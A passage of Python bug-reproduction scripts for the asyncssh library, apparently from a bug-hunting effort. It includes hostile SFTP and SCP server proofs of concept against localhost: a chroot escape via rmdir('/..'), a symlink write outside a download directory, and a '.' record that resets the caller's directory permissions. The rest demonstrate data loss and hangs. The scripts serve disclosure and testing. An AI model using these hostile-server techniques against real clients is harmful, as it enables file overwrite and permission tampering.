                   sstr(qc) + sstr(pub) + k).digest()
            sig = sstr(b'ssh-ed25519') + sstr(self.hostkey.sign(h))
            self._derive(k, h)
            await self.send_many([bytes([MSG_KEX_ECDH_REPLY]) + sstr(ks) +
                                  sstr(pub) + sstr(sig),
                                  bytes([MSG_NEWKEYS])])
            await self.recv_kex(MSG_NEWKEYS)
        self.kex_count += 1

    async def start(self):
        await self.exchange_version()
        await self.do_kex()

    # ---- upper layer helpers ----

    async def recv_msg(self):
        """Next packet above the transport housekeeping layer.  Handles a
        peer-initiated re-exchange transparently."""

        while True:
            if self.queued:
                return self.queued.pop(0)
            p = await self.recv()
            t = p[0]
            if t in (MSG_IGNORE, MSG_DEBUG, MSG_UNIMPLEMENTED, MSG_EXT_INFO):
                self.log.append(p)
                continue
            if t == MSG_KEXINIT:
                await self.do_kex(peer_kexinit=p)
                continue
            if t == MSG_DISCONNECT:
                r = Rd(p[1:])
                code = r.u32()
                raise ConnectionError('peer disconnected: %d %r' %
                                      (code, r.string()))
            return p

    async def expect(self, t):
        p = await self.recv_msg()
        if p[0] != t:
            raise WireError('expected type %d, got %d: %r' % (t, p[0], p[:60]))
        return p

    async def client_auth_none(self, user=b'user'):
        await self.send(bytes([MSG_SERVICE_REQUEST]) + sstr(b'ssh-userauth'))
        await self.expect(MSG_SERVICE_ACCEPT)
        await self.send(bytes([MSG_USERAUTH_REQUEST]) + sstr(user) +
                        sstr(b'ssh-connection') + sstr(b'none'))
        while True:
            p = await self.recv_msg()
            if p[0] == MSG_USERAUTH_BANNER:
                continue
            if p[0] != MSG_USERAUTH_SUCCESS:
                raise WireError('auth none not accepted: %r' % p[:40])
            break
        self.auth_done = True

    async def server_auth_accept(self):
        p = await self.expect(MSG_SERVICE_REQUEST)
        await self.send(bytes([MSG_SERVICE_ACCEPT]) + sstr(b'ssh-userauth'))
        p = await self.expect(MSG_USERAUTH_REQUEST)
        await self.send(bytes([MSG_USERAUTH_SUCCESS]))
        self.auth_done = True

# ---------------------------------------------------------------------------
# Scenario
# ---------------------------------------------------------------------------

import sys
import asyncssh


async def _raw_server(r, w, fin_delay, done):
    t = Transport(r, w, False)
    try:
        await t.exchange_version()
        t.my_kexinit = t._kexinit_payload()
        disc = bytes([MSG_DISCONNECT]) + u32(12) + \
            sstr(b'Too many connections') + sstr(b'')
        data = t.build(t.my_kexinit) + t.build(disc)
        w.write(data)
        if fin_delay:
            await asyncio.sleep(fin_delay)
        w.write_eof()
        # read until the client closes, so that no RST is generated
        while await r.read(65536):
            pass
    except (ConnectionError, EOFError):
        pass
    finally:
        w.close()
        done.set()


async def _run(fin_delay):
    done = asyncio.Event()
    srv = await asyncio.start_server(
        lambda r, w: _raw_server(r, w, fin_delay, done), '127.0.0.1', 0)
    port = srv.sockets[0].getsockname()[1]
    try:
        conn = await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, known_hosts=None,
                             username='u', client_keys=None, config=None),
            20)
        conn.abort()
        return 'connected?!'
    except asyncio.TimeoutError:
        return 'hang'
    except Exception as exc:
        return '%s: %s' % (type(exc).__name__, exc)
    finally:
        try:
            await asyncio.wait_for(done.wait(), 5)
        except asyncio.TimeoutError:
            pass
        srv.close()


async def main():
    a = await _run(0.3)
    b = await _run(0)
    print('A (FIN 0.3 s after the data): %s' % a)
    print('B (FIN right after the data): %s' % b)

    want = 'Too many connections'
    if want not in a:
        print('unexpected: run A did not report the disconnect either')
        return 1
    if want not in b:
        print('VIOLATION: the SSH_MSG_DISCONNECT payload was delivered to '
              'asyncssh but never processed;\nthe same byte stream gives a '
              'different result depending on when the FIN arrives')
        return 1
    print('ok')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        sys.exit(1)
