"""SFTP chroot: the client can remove the root directory itself

Expected (property C13): an SFTP server confined to a root directory
touches nothing outside that root, whatever path strings a client sends.
The root's own entry lives in its parent directory, which is outside; in
a real chroot rmdir("/") fails with EBUSY, and paths such as "/..", "" or
"." can never name something that can be unlinked from outside.

Observed: map_path() maps "", ".", "/", "/.." and the like to the root
directory itself and SFTPServer.rmdir() hands that straight to os.rmdir().
Once the root is empty, an rmdir request for "/.." (or "", "/", ".")
unlinks the root directory from its parent: a directory entry outside of
the confined tree is removed and every later request of every session
using this root fails.

Responsible code: asyncssh/sftp.py:SFTPServer.rmdir (and map_path, which
returns the root itself for these paths); nothing refuses operations whose
object is the root directory's own entry.
"""

import asyncio
import functools
import os
import shutil
import sys

import asyncssh

BASE = '/tmp/hunt_S13/scratch_demo4'
ROOT = BASE + '/parent/root'


class Server(asyncssh.SSHServer):
    """Let everyone in"""

    def begin_auth(self, username):
        return False


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    os.makedirs(ROOT)

    with open(ROOT + '/file', 'w') as f:
        f.write('data')

    key = asyncssh.generate_private_key('ssh-ed25519')

    factory = functools.partial(asyncssh.SFTPServer, chroot=ROOT)

    listener = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     sftp_factory=factory)

    print('parent directory before:', sorted(os.listdir(BASE + '/parent')))

    async with asyncssh.connect('127.0.0.1', listener.get_port(),
                                known_hosts=None, username='u') as conn:
        async with conn.start_sftp_client() as sftp:
            await sftp.remove(b'/file')

            try:
                await sftp.rmdir(b'/..')
                print('rmdir("/..") succeeded')
            except asyncssh.SFTPError as exc:
                print('rmdir("/..") refused:', exc)

    listener.close()

    after = sorted(os.listdir(BASE + '/parent'))
    print('parent directory after: ', after)

    shutil.rmtree(BASE, ignore_errors=True)

    if 'root' not in after:
        print('MISBEHAVIOUR: the client removed the root directory from '
              'its parent, which is outside of the root')
        return 1
    else:
        print('OK: the root directory is still there')
        return 0


sys.exit(asyncio.run(asyncio.wait_for(main(), 50)))
