"""SFTP mget with a pattern: an empty file name in the listing used to
expand the pattern makes the download re-enter the destination directory
itself and write through a symbolic link created for an earlier match

Expected (property C13): a download creates or modifies nothing outside
the destination the caller named, whatever directory-entry names a hostile
server returns. SFTPGlob._match_pattern() therefore skips ".", ".." and
names containing "/", and SFTPClient._begin_copy() refuses a second source
with the same base name as an earlier one.

Observed: the empty name b'' passes the checks in _match_pattern(). For
the pattern '/r/*' a hostile server lists /r as

    'x'  (symlink, target /.../outside/victim)
    ''   (directory)

which expands to the sources '/r/x' and '/r/'. The base name of '/r/' is
b'', which differs from b'x', and compose_path(b'', parent=dest) is
dest + '/': the second source is copied over the destination directory
itself. Its listing (remote path '/r/') contains 'x' as a regular file, so
the client opens dest/x for writing, which is the symlink created for the
first source: a file outside of the destination is created/overwritten
with data chosen by the server.

Responsible code: asyncssh/sftp.py:SFTPGlob._match_pattern (accepts an
empty entry name; the repair "don't trust directory entry names when
expanding remote patterns" did not cover it) and SFTPClient._begin_copy
(accepts a source whose base name is empty, so the copy goes over the
destination directory rather than to a new entry in it).
"""

import asyncio
import os
import shutil
import sys

import asyncssh
from asyncssh import SFTPAttrs, SFTPName, SFTPNoSuchFile, SFTPServer
from asyncssh.constants import FILEXFER_TYPE_DIRECTORY
from asyncssh.constants import FILEXFER_TYPE_REGULAR, FILEXFER_TYPE_SYMLINK

BASE = '/tmp/hunt_S13/scratch_demo3'
DEST = BASE + '/dest'
OUTSIDE = BASE + '/outside'
VICTIM = OUTSIDE + '/victim'
PAYLOAD = BASE + '/payload'


def _dir():
    return SFTPAttrs(type=FILEXFER_TYPE_DIRECTORY, permissions=0o40755,
                     size=0, uid=0, gid=0, atime=1, mtime=1)


def _file():
    return SFTPAttrs(type=FILEXFER_TYPE_REGULAR, permissions=0o100644,
                     size=4, uid=0, gid=0, atime=1, mtime=1)


def _link():
    return SFTPAttrs(type=FILEXFER_TYPE_SYMLINK, permissions=0o120777,
                     size=0, uid=0, gid=0, atime=1, mtime=1)


# What the hostile server claims to have
TREE = {
    b'/r':   ('d', [(b'x', _link()), (b'', _dir())]),
    b'/r/':  ('d', [(b'x', _file())]),
    b'/r/x': ('l', VICTIM.encode()),
}


class HostileSFTPServer(SFTPServer):
    """An SFTP server which makes up its directory listings"""

    def lstat(self, path):
        entry = TREE.get(path)

        if entry is None:
            raise SFTPNoSuchFile('no such file')

        return {'d': _dir, 'l': _link}[entry[0]]()

    stat = lstat

    async def scandir(self, path):
        entry = TREE.get(path)

        if entry is None or entry[0] != 'd':
            raise SFTPNoSuchFile('no such file')

        for name, attrs in entry[1]:
            yield SFTPName(name, attrs=attrs)

    def readlink(self, path):
        return TREE[path][1]

    def realpath(self, path):
        return path

    def open(self, path, pflags, attrs):
        # Whatever is opened for reading, serve the payload
        return open(PAYLOAD, 'rb', buffering=0)


class Server(asyncssh.SSHServer):
    """Let everyone in"""

    def begin_auth(self, username):
        return False


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    os.makedirs(DEST)
    os.makedirs(OUTSIDE)

    with open(PAYLOAD, 'wb') as f:
        f.write(b'EVIL')

    key = asyncssh.generate_private_key('ssh-ed25519')

    listener = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     sftp_factory=HostileSFTPServer)

    async with asyncssh.connect('127.0.0.1', listener.get_port(),
                                known_hosts=None, username='u') as conn:
        async with conn.start_sftp_client() as sftp:
            try:
                await sftp.mget(b'/r/*', DEST, recurse=True)
                print('mget() returned without error')
            except Exception as exc: # pylint: disable=broad-except
                print('mget() raised:', type(exc).__name__, exc)

    listener.close()

    print('files outside of the destination afterwards:',
          sorted(os.listdir(OUTSIDE)))

    escaped = os.path.exists(VICTIM)

    if escaped:
        with open(VICTIM, 'rb') as f:
            print('content of', VICTIM, '=', f.read())

    shutil.rmtree(BASE, ignore_errors=True)

    if escaped:
        print('MISBEHAVIOUR: the download created a file outside of the '
              'destination directory', DEST)
        return 1
    else:
        print('OK: nothing was created outside of the destination')
        return 0


sys.exit(asyncio.run(asyncio.wait_for(main(), 50)))
