"""SCP download: a directory record named "." lets the server change the
mode and times of the directory the caller downloads into

Expected (property C13): a download creates or modifies nothing but what
is placed inside the destination the caller named, whatever names the
remote side supplies. The SCP sink is meant to reject names which do not
denote a new entry below the current directory ("SCP sink rejects names
with separators or '..'").

Observed: _parse_cd_args() rejects "..", "/" and "\\" but accepts ".".
A hostile server answering "scp -f -p -r" with the record "D0777 0 ." makes
_SCPSink._recv_files() compute new_dstpath = <dest>/. , descend into the
caller's own directory and, as preserve is set, finish with
setstat(<dest>/., attrs): the caller's destination directory itself is
given the server's permissions (here 0777, world-writable) and times,
although the caller asked for one item to be placed inside it. This is
what CVE-2018-20685 was in OpenSSH's scp, which now rejects ".", ".."
and the empty name alike.

Responsible code: asyncssh/scp.py:_parse_cd_args (name check) together
with _SCPSink._recv_files (setstat of new_dstpath after a D record).
"""

import asyncio
import os
import shutil
import stat
import sys

import asyncssh

BASE = '/tmp/hunt_S13/scratch_demo1'


async def hostile_scp(process):
    """Answer 'scp -f' with hand-written records"""

    stdin, stdout = process.stdin, process.stdout

    async def expect_ok():
        await stdin.read(1)

    await expect_ok()                       # sink's initial OK

    stdout.write(b'T1000000000 0 1000000000 0\n')
    await expect_ok()
    stdout.write(b'D0777 0 .\n')
    await expect_ok()
    stdout.write(b'C0644 5 data.txt\n')
    await expect_ok()
    stdout.write(b'hello\0')
    await expect_ok()
    stdout.write(b'E\n')
    await expect_ok()
    process.exit(0)


async def main():
    shutil.rmtree(BASE, ignore_errors=True)
    dest = os.path.join(BASE, 'dest')
    os.makedirs(dest)
    os.chmod(dest, 0o700)

    before = os.stat(dest)

    key = asyncssh.generate_private_key('ssh-ed25519')

    class Server(asyncssh.SSHServer):
        def begin_auth(self, username):
            return False

    listener = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                     server_host_keys=[key],
                                     process_factory=hostile_scp,
                                     encoding=None)
    port = listener.get_port()

    async with asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                username='u') as conn:
        try:
            await asyncssh.scp((conn, 'project'), dest,
                               preserve=True, recurse=True)
        except Exception as exc: # pylint: disable=broad-except
            print('scp raised:', type(exc).__name__, exc)

    listener.close()

    after = os.stat(dest)

    print('destination mode before: %04o  after: %04o' %
          (stat.S_IMODE(before.st_mode), stat.S_IMODE(after.st_mode)))
    print('destination mtime before: %d  after: %d' %
          (before.st_mtime, after.st_mtime))
    print('destination now contains:', sorted(os.listdir(dest)))

    bad = stat.S_IMODE(after.st_mode) != 0o700 or \
        int(after.st_mtime) == 1000000000

    shutil.rmtree(BASE, ignore_errors=True)

    if bad:
        print('MISBEHAVIOUR: the server-supplied name "." let the server '
              'set mode/times of the destination directory itself')
        return 1
    else:
        print('OK: name "." was refused')
        return 0


sys.exit(asyncio.run(asyncio.wait_for(main(), 50)))
