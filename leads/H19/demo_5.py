#!/venv/bin/python
"""C19 demo 5: exit status 0 and a clean EOF are reported for a command
whose output was silently truncated.

Wire order (everything the server does is correct and complete):

    S->C  3 MiB of CHANNEL_DATA (fits: 2 MiB window + one WINDOW_ADJUST)
    S->C  exit-status 0, CHANNEL_EOF, CHANNEL_CLOSE
    C->S  CHANNEL_CLOSE           (sent at once by SSHChannel._process_close)
    S->C  DISCONNECT (by application) -- the server has nothing more to do

The client application reads slowly, so SSHStreamSession paused reading when
its buffer reached the window size; about 1 MiB of the output, the EOF and
the close are parked in SSHChannel._recv_buf ('close_pending'), waiting for
resume_reading().  When the connection goes away,
SSHChannel.process_connection_close() calls _cleanup() straight away: the
parked data is dropped and the stream session is told connection_lost(None),
which it turns into a normal EOF.  Since exit-status requests are not queued
behind the data, the application sees: exit_status == 0, EOF, no error --
and a third of stdout missing.

Property: "Whenever an exit status or signal is reported for a command, its
complete stdout and stderr come with it" for "every ordering of data, EOF,
exit status and close on the wire".
"""

import asyncio
import sys

import asyncssh

TOTAL = 3 * 1024 * 1024


class Server(asyncssh.SSHServer):
    """Server which closes the connection once its one command is done"""

    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return False

    async def handle_process(self, process):
        """Run the one and only command"""

        process.stdout.write(TOTAL * b'x')
        process.exit(0)

        # All output, EOF, exit status and CLOSE have been sent and the
        # client's CLOSE has been received when this returns
        await process.wait_closed()

        self._conn.close()


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')
    servers = []

    def server_factory():
        servers.append(Server())
        return servers[-1]

    def process_factory(process):
        return servers[-1].handle_process(process)

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey], encoding=None,
        process_factory=process_factory, server_factory=server_factory)

    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    proc = await conn.create_process('cmd', encoding=None)

    # A slow consumer: it looks at the beginning of the output, works on
    # that for a while, and then reads the rest
    received = len(await proc.stdout.read(1))
    await asyncio.wait_for(conn.wait_closed(), 10)

    error = None

    try:
        while True:
            data = await asyncio.wait_for(proc.stdout.read(65536), 10)

            if not data:
                break

            received += len(data)
    except Exception as exc: # pylint: disable=broad-except
        error = exc

    print(f'exit_status = {proc.exit_status}, at_eof = '
          f'{proc.stdout.at_eof()}, error = {error!r}, '
          f'stdout = {received} of {TOTAL} bytes')

    server.close()

    if received == TOTAL:
        print('complete output delivered: OK')
        return 0
    elif error is not None:
        print('output incomplete, but the reader was told so: OK')
        return 0
    else:
        print(f'VIOLATION: exit status {proc.exit_status} and a clean EOF '
              f'were reported, but {TOTAL - received} bytes of stdout, all '
              'of which had been received from the server, were dropped')
        return 1


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
