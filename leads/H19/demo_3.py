#!/venv/bin/python
"""C19 demo 3: changing a redirect while data is flowing loses data and
breaks the session.

A remote command writes 60 numbered lines.  The client redirects its stdout
to a slow target (an async file object whose write() is held up for a while;
an asyncio.StreamWriter target behaves the same, both queue the data), and
then, as the target can't keep up and has caused reading from the channel to
be paused, redirects stdout to a second target.  Every line must end up in
one of the two targets, in order: a prefix in the first one, the rest in the
second one, and both get closed ("redirections copy all data and then EOF").

What happens instead (SSHProcess.set_writer -> clear_writer, and
_AsyncFileWriter/_StreamWriter):

  case "burst":  all 60 lines are sent at once, so some of them are parked in
    the channel while reading is paused.  clear_writer() calls
    resume_feeding() *before* it removes the old writer from self._writers.
    Resuming makes the channel flush the parked data (and EOF),
    synchronously, into the old writer -- which has just been closed (its
    queue already holds the end marker), so that data is never written
    anywhere, and the queue.join() registered as a clean-up task can never
    finish: wait_closed()/wait()/run() hang.

  case "two steps":  the command sends 16 lines (just enough to get paused),
    and the other 44 after the redirect was changed.  The old writer still
    believes it paused the stream; when its queue drains it calls
    resume_feeding() a second time, which raises KeyError inside the writer
    task.  The task dies with lines left in its queue, and the *whole SSH
    connection* is torn down as an internal error.
"""

import asyncio
import sys

import asyncssh

NLINES = 60


class SlowAsyncFile:
    """An aiofiles-like object: write() waits until the gate is open"""

    def __init__(self, gate: asyncio.Event):
        self.gate = gate
        self.data = []
        self.closed = False

    async def read(self, n: int = -1) -> bytes:
        """Not used"""

        return b''

    async def write(self, data: bytes) -> None:
        """Write once the gate is open"""

        await self.gate.wait()
        self.data.append(data)

    async def close(self) -> None:
        """Note the close"""

        self.closed = True

    def lines(self):
        """Return the lines written"""

        return b''.join(self.data).decode().splitlines()


async def handle_process(process):
    """Server side: one SSH data packet per line"""

    first_part = NLINES if process.command == 'burst' else 16

    for i in range(first_part):
        process.stdout.write(f'line {i}\n')

    if first_part < NLINES:
        # Send the rest when the client says so (EOF on stdin)
        await process.stdin.read()

        for i in range(first_part, NLINES):
            process.stdout.write(f'line {i}\n')

    process.exit(0)


async def run_case(port: int, command: str) -> int:
    """Run one case on a connection of its own"""

    print(f'--- case "{command}"')

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    gate = asyncio.Event()
    first = SlowAsyncFile(gate)

    open_gate = asyncio.Event()
    open_gate.set()
    second = SlowAsyncFile(open_gate)

    proc = await conn.create_process(command)
    await proc.redirect_stdout(first)

    # Give the command time to send its output.  The first target accepts
    # nothing yet, so its queue fills up and reading gets paused.
    await asyncio.sleep(1)

    # Now send the rest somewhere else, and let the first target finish
    await proc.redirect_stdout(second)
    gate.set()
    await asyncio.sleep(0.5)

    problems = []

    try:
        proc.stdin.write_eof()
    except OSError as exc:
        problems.append(f'stdin.write_eof() raised {exc!r}')

    try:
        await asyncio.wait_for(proc.wait_closed(), 5)
    except asyncio.TimeoutError:
        problems.append('process.wait_closed() still blocked after 5 s')

    expected = [f'line {i}' for i in range(NLINES)]
    got1 = first.lines()
    got2 = second.lines()
    missing = [line for line in expected if line not in got1 + got2]

    print(f'first target got  {len(got1)} lines'
          f'{" (" + got1[0] + " .. " + got1[-1] + ")" if got1 else ""}')
    print(f'second target got {len(got2)} lines'
          f'{" (" + got2[0] + " .. " + got2[-1] + ")" if got2 else ""}')
    print('exit_status reported:', proc.exit_status)

    if got1 + got2 != expected:
        problems.append(f'{len(missing)} of {NLINES} lines were delivered '
                        f'to neither target: {missing[0]} .. {missing[-1]}')

    if not first.closed or not second.closed:
        problems.append(f'targets closed: first={first.closed} '
                        f'second={second.closed}')

    if conn.is_closed():
        problems.append('the whole SSH connection was torn down')

    for problem in problems:
        print('VIOLATION:', problem)

    conn.abort()

    return len(problems)


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        process_factory=handle_process,
        server_factory=type('S', (asyncssh.SSHServer,), {
            'begin_auth': lambda self, username: False}))

    port = server.sockets[0].getsockname()[1]

    problems = 0

    for command in ('burst', 'two steps'):
        problems += await run_case(port, command)

    server.close()

    return 1 if problems else 0


if __name__ == '__main__':
    import warnings
    warnings.simplefilter('ignore', RuntimeWarning)

    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
