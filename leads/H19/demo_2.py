#!/venv/bin/python
"""C19 demo 2: recv_eof=False is ignored when EOF reached the client before
the redirect was set up.

redirect_stdout(target, recv_eof=False) is documented to leave the target
open when EOF is received on the channel, so that it "can be used for
multiple redirects".  SSHProcess.eof_received() honours that flag, but
SSHProcess.feed_recv_buf() -- which replays what was received before the
redirect was installed -- calls writer.write_eof() unconditionally when EOF
has already been received.  So whether the target sees EOF depends only on
the order "EOF on the wire" / "redirect() call", i.e. on timing:

   redirect, then data+EOF arrive   -> target stays open   (as documented)
   data+EOF arrive, then redirect   -> target gets EOF     (violation)

Here the stdout of two short remote commands is concatenated into the stdin
of a third one.  With the second ordering the collector's stdin is closed
after the first producer and the second producer's output is lost.
"""

import asyncio
import sys

import asyncssh


async def handle_process(process):
    """Server side"""

    if process.command == 'collect':
        data = await process.stdin.read()
        process.stdout.write('[' + data + ']')
        process.exit(0)
    else:
        process.stdout.write(process.command + '\n')
        process.exit(0)


async def run_case(conn, wait_for_eof_first: bool) -> str:
    """Feed the output of commands 'one' and 'two' to 'collect'"""

    collector = await conn.create_process('collect')

    for cmd in ('one', 'two'):
        producer = await conn.create_process(cmd)

        if wait_for_eof_first:
            # Let output, EOF, exit status and close of the (short)
            # command arrive before the redirect is requested
            await asyncio.wait_for(producer.wait_closed(), 10)

        try:
            await producer.redirect_stdout(collector.stdin, recv_eof=False)
            await asyncio.wait_for(producer.wait_closed(), 10)
        except Exception as exc: # pylint: disable=broad-except
            return f'<{cmd}: {exc!r}>'

    try:
        collector.stdin.write_eof()
    except Exception as exc: # pylint: disable=broad-except
        return f'<write_eof: {exc!r}>'

    result = await asyncio.wait_for(collector.wait(), 10)
    return result.stdout


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        process_factory=handle_process,
        server_factory=type('S', (asyncssh.SSHServer,), {
            'begin_auth': lambda self, username: False}))

    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    expected = '[one\ntwo\n]'
    rc = 0

    for wait_first in (False, True):
        got = await run_case(conn, wait_first)
        order = 'EOF before redirect' if wait_first else \
                'redirect before EOF'
        ok = got == expected

        print(f'{order}: collector saw {got!r} '
              f'({"OK" if ok else "VIOLATION, expected " + repr(expected)})')

        if not ok:
            rc = 1

    conn.close()
    server.close()

    return rc


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
