#!/venv/bin/python
"""C19 demo 1: drain() never returns (nor fails) once the channel is gone
while a redirect is feeding the stream.

SSHProcess._should_block_drain() keeps drain() blocked for as long as a
redirect source ("reader") is attached to the stream.  When the channel is
closed by the peer, SSHProcess.connection_lost() first calls
SSHStreamSession.connection_lost() -- which tries to wake the drain waiters
while the readers are still registered, so nobody is woken -- and then throws
the readers away with "self._readers = {}" without waking anybody.  A caller
which is waiting in stdin.drain() (documented way to wait for a redirect to
finish / for more room to write) hangs for ever although the channel is gone.

Property: "drain returns only when more can be written or fails if the
channel is gone".
"""

import asyncio
import os
import sys

import asyncssh

HERE = os.path.dirname(os.path.abspath(__file__))


async def handle_process(process):
    """Server side: read a little of stdin, then exit while the client
       still has its stdin redirect open"""

    await process.stdin.readline()
    process.stdout.write('bye\n')
    process.exit(0)


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        process_factory=handle_process,
        server_factory=type('S', (asyncssh.SSHServer,), {
            'begin_auth': lambda self, username: False}))

    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    # A local pipe is the source of the remote process' stdin.  It never
    # reaches EOF, as the local end stays open (think of sys.stdin).
    rfd, wfd = os.pipe()
    rfile = os.fdopen(rfd, 'rb', buffering=0)

    proc = await conn.create_process('cmd')
    await proc.redirect_stdin(rfile)

    os.write(wfd, b'hello\n')

    drain_task = asyncio.ensure_future(proc.stdin.drain())

    # The remote command exits and the channel is closed
    await asyncio.wait_for(proc.wait_closed(), 10)

    print('channel closed: exit_status =', proc.exit_status,
          ' is_closing =', proc.is_closing())

    rc = 0

    try:
        await asyncio.wait_for(asyncio.shield(drain_task), 3)
        print('drain() returned after the channel was closed: OK')
    except asyncio.TimeoutError:
        print('VIOLATION: stdin.drain() is still blocked 3 seconds after '
              'the channel was closed -- it neither returned nor failed')
        rc = 1
    except Exception as exc: # pylint: disable=broad-except
        print(f'drain() failed with {exc!r} after the channel was '
              'closed: OK')

    drain_task.cancel()
    os.close(wfd)

    conn.close()
    server.close()

    return rc


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
