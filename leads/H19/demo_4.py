#!/venv/bin/python
"""C19 demo 4: stdout and stderr of a server process both redirected from
asyncio StreamReaders (e.g. the pipes of asyncio.create_subprocess_exec):
as soon as back-pressure from the client pauses and resumes writing once,
the session is destroyed and output is lost.

_StreamReader (and _AsyncFileReader) implement pause_reading() by setting a
flag that their feed task only looks at between two reads, and
resume_reading() by starting a *new* feed task.  SSHProcess.pause_writing()
/ resume_writing() pause and resume *all* readers of the process.  So when
stdout's data fills the send buffer:

   pause_writing  -> stderr's reader: _paused = True, but its feed task is
                     sitting in "await reader.read()" and stays there
   resume_writing -> stderr's reader: _paused = False, a 2nd feed task is
                     started which also calls reader.read()

asyncio.StreamReader refuses the concurrent read with RuntimeError, the
exception escapes the task, and SSHConnection._reap_task() treats that as an
internal error and drops the whole connection.  The client gets no stderr
and no exit status (and wait() returns as if nothing had happened).  (With an async file object instead of
a StreamReader the two tasks both read and the data gets duplicated /
reordered instead.)
"""

import asyncio
import sys

import asyncssh

TOTAL = 6 * 1024 * 1024
CHUNK = 64 * 1024


async def handle_process(process):
    """Server side: forward "stdout" and "stderr" of some local job"""

    job_stdout = asyncio.StreamReader(limit=TOTAL + 1)
    job_stderr = asyncio.StreamReader()

    await process.redirect(stdout=job_stdout, stderr=job_stderr,
                           send_eof=False)

    # The job needs a moment before it produces anything
    await asyncio.sleep(0.1)

    # Then it writes a lot to stdout ...
    for _ in range(TOTAL // CHUNK):
        job_stdout.feed_data(CHUNK * b'o')

    job_stdout.feed_eof()

    await process.stdout.drain()

    # ... then something to stderr, and exits
    job_stderr.feed_data(b'warning: something\n')
    job_stderr.feed_eof()

    await process.stderr.drain()
    process.exit(3)


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        process_factory=handle_process, encoding=None,
        server_factory=type('S', (asyncssh.SSHServer,), {
            'begin_auth': lambda self, username: False}))

    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    proc = await conn.create_process('job', encoding=None)

    # A client which takes its time before it reads: the server's send
    # window (2 MiB) and send buffer fill up, and writing gets paused there
    await asyncio.sleep(1)

    problems = []
    stdout = stderr = b''
    status = None

    try:
        result = await asyncio.wait_for(proc.wait(), 20)
        stdout, stderr, status = \
            result.stdout, result.stderr, result.exit_status
    except asyncssh.TimeoutError as exc:
        problems.append('wait() timed out')
        stdout, stderr, status = exc.stdout, exc.stderr, exc.exit_status
    except Exception as exc: # pylint: disable=broad-except
        problems.append(f'wait() raised {exc!r}')
        stdout, stderr = proc.collect_output()

    print(f'stdout: {len(stdout)} of {TOTAL} bytes,  stderr: {stderr!r},  '
          f'exit status: {status}')

    if len(stdout) != TOTAL:
        problems.append(f'stdout truncated to {len(stdout)} bytes')

    if stderr != b'warning: something\n':
        problems.append('stderr lost')

    if status != 3:
        problems.append('exit status lost')

    if conn.is_closed():
        problems.append('the whole SSH connection was torn down')

    for problem in problems:
        print('VIOLATION:', problem)

    conn.abort()
    server.close()

    return 1 if problems else 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
