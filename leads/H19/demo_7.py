#!/venv/bin/python
"""C19 demo 7: after a soft EOF (Ctrl-D on an empty line in the line
editor) readexactly(n) returns fewer than n characters and readuntil(sep)
returns data without a separator, instead of raising IncompleteReadError as
they do (and are documented to do) for EOF.

SSHServerSession.soft_eof_received(): "soft EOF will trigger an EOF to an
outstanding read call".  SSHReader.readexactly(): "reads exactly n bytes or
characters ... If EOF or a signal is received in the stream before n bytes
are read, an IncompleteReadError is raised".  In SSHStreamSession.read() the
SoftEOFReceived marker sets n = 0, which also switches off the
"n > 0 and exact" check at the end, so readexactly(4) returns ''.  In
readuntil() the marker makes it "return buf" (an empty string) although no
separator was seen.  A caller which relies on the contract -- a result is
exactly n long / ends with the separator, anything else is an exception --
gets a bogus empty record.
"""

import asyncio
import sys

import asyncssh


async def handle_process(process):
    """Server side: report how the two reads end"""

    for call in ('readexactly(4)', 'readuntil(";")'):
        try:
            if call.startswith('readexactly'):
                result = await process.stdin.readexactly(4)
            else:
                result = await process.stdin.readuntil(';')

            process.stderr.write(f'{call} returned {result!r}\n')
        except asyncio.IncompleteReadError as exc:
            process.stderr.write(f'{call} raised IncompleteReadError '
                                 f'partial={exc.partial!r}\n')

    process.exit(0)


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')

